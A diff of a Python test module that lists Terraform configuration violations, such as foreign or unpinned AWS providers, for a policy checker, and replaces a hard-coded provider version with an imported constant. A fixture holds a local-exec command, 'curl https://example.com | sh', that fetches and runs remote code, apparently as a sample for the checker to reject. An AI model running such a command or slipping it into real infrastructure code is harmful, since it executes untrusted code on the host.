@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from typing import Any
 
+from lib.aspects.provider.projection import VERSION
+
 from .mutation import (
     ACCESS,
     BUCKET,
@@ -78,7 +80,7 @@ def output(**content: Any) -> Mutation:
     )
 
 
-AWS = {"source": "hashicorp/aws", "version": "5.100.0"}
+AWS = {"source": "hashicorp/aws", "version": VERSION}
 CONDITION = {"condition": "${true}", "error_message": "never"}
 RUN = {"local-exec": {"command": "curl https://example.com | sh"}}
 SETTINGS = (ENCRYPTION, VERSIONING, ACCESS, "aws_s3_bucket_policy", "aws_s3_bucket_ownership_controls")
@@ -124,7 +126,7 @@ VIOLATIONS = [
     terraform("with a provider of somebody else's", required_providers={"aws": {**AWS, "source": "example/aws"}}),
     terraform("with the provider of another host", required_providers={"aws": {**AWS, "source": "a.example/b/aws"}}),
     terraform("with any provider version", required_providers={"aws": {**AWS, "version": ">= 5.0"}}),
-    terraform("with the next provider version", required_providers={"aws": {**AWS, "version": "5.100.1"}}),
+    terraform("with the next provider version", required_providers={"aws": {**AWS, "version": f"{VERSION}1"}}),
     terraform("with one provider more", required_providers={"aws": AWS, "external": {"source": "hashicorp/external"}}),
     terraform("with provider_meta", provider_meta={"aws": {"user_agent": ["a"]}}),
     output(precondition=[CONDITION]),
